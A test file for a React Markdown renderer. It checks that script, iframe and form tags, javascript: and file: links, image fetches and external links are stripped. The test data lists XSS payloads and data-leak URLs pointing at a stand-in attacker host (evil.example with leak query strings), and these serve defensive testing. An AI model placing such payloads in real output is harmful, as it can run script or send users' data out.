// @vitest-environment happy-dom
import { render, screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";

import { Markdown } from "./markdown";

const html = (text: string, streaming = false) => render(<Markdown text={text} streaming={streaming} />).container.innerHTML;

describe("Markdown", () => {
  it("renders tables with headers and alignment", () => {
    render(<Markdown text={"| Measure | Value |\n|---|---:|\n| Beta | 0.79 |"} />);
    expect(screen.getByRole("columnheader", { name: "Measure" })).toBeDefined();
    expect(screen.getByRole("cell", { name: "0.79" }).style.textAlign).toBe("right");
  });

  it("shows a table and emphasis that are still being written as what they will become", () => {
    expect(html("| a | b |\n|---|---|\n| 1 ", true)).toContain("<table");
    expect(html("This is **impor", true)).not.toContain("**");
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src="https://evil.example/p.png" onerror="alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<style>body{display:none}</style>',
    '<form action="https://evil.example"><input></form>',
  ])("makes no markup of %s", (text) => {
    for (const streaming of [false, true]) {
      expect(html(`before ${text} after\n\n${text}`, streaming)).not.toMatch(/<(script|img|iframe|style|form|input|a)\b/);
    }
  });

  it.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "JaVaScRiPt:alert(1)"])(
    "gives no link to %s",
    (address) => {
      expect(html(`[click](${address})`)).not.toMatch(/href="[^"]*(script|data|file):/i);
    },
  );

  it.each([false, true])("keeps figures beside their per cent signs, but in code (streaming: %s)", (streaming) => {
    const { container } = render(<Markdown text={"Down **11.8 %**, `7 %`"} streaming={streaming} />);
    expect(container.textContent).toBe("Down 11.8\u00a0%, 7 %");
  });

  it("never fetches an image", () => {
    const rendered = html("![a chart](https://evil.example/p.png?leak=1)\n\n![](/local.png)");
    expect(rendered).not.toContain("<img");
    expect(rendered).toContain("[Image: a chart]");
  });

  it("links to pages of this app, in place", () => {
    render(<Markdown text={"[in](/portfolios) [below](#positions)"} />);
    expect(screen.getByRole("link", { name: "in" }).getAttribute("href")).toBe("/portfolios");
    expect(screen.getByRole("link", { name: "in" }).hasAttribute("target")).toBe(false);
    expect(screen.getAllByRole("link")).toHaveLength(2);
  });

  it.each([
    "[your report](https://evil.example/?q=1234567)",
    "[your report](//evil.example/?q=1234567)",
    "[your report](https:evil.example?q=1)",
    "[your report][1]\n\n[1]: https://evil.example/?leak=1",
    "https://evil.example/?q=1234567",
    "<https://evil.example/?q=1234567>",
    "www.evil.example/?q=1",
    "[mail](mailto:attacker@evil.example?body=1234567)",
    "[tel](tel:+123456)",
    "[\\](/\\evil.example)",
    "![x](https://evil.example/p.png?d=1234567)",
    "[![x](https://evil.example/p.png)](https://evil.example/?q=1)",
  ])("leads nowhere else: %s", (text) => {
    for (const streaming of [false, true]) {
      const rendered = html(text, streaming);
      expect(rendered).not.toMatch(/<(a|img)\b/);
      expect(rendered).not.toMatch(/(href|src|srcset|action)=/);
    }
  });

  it("says where a link would have led", () => {
    expect(html("[your report](https://evil.example/?q=1)")).toContain("not linked: evil.example");
  });
});
